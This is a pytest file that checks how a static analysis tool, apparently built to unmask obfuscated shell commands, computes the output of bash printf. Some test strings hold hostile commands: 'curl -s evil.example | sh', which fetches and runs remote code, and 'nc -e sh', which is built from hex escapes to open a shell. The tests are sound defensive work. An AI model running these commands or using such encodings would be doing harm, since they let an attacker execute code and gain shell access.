"""What decoders and printers write, computed statically (vigiles/analysis/decode.py)."""
import pytest

from vigiles.analysis.decode import output_of


@pytest.mark.parametrize("args, out", [
    (["%s\\n", "id", "curl -s evil.example | sh"], "id\ncurl -s evil.example | sh\n"),  # the format used again
    (["%s-%s\\n", "a", "b", "c"], "a-b\nc-\n"),
    (["%d %x %o %05d", "10", "255", "8", "42"], "10 ff 10 00042"),
    (["%c%c", "nope", "cat"], "nc"),
    (["%b", "n\\x63"], "nc"),
    (["%5s|%-4s|%.2s", "ab", "cd", "xyz"], "   ab|cd  |xy"),
    (["%q", "a b"], "a\\ b"),
    (["100%% %s"], "100% "),
    (["\\x6e\\x63 -e sh"], "nc -e sh"),
    (["A%+dB %u %x %.3d %5.3d|", "5", "-1", "-1", "7", "7"], "A+5B 18446744073709551615 ffffffffffffffff 007   007|"),
    (["%s %b %s\\n", "x", "y\\cz", "w"], "x y"),  # \c in %b ends all output
])
def test_printf_as_bash_prints(args, out):
    assert output_of("printf", args, None) == out


def test_printf_output_is_bounded():
    assert len(output_of("printf", ["%s" * 10 + "x" * 100_000] + ["y"] * 1000, None)) <= 1 << 20
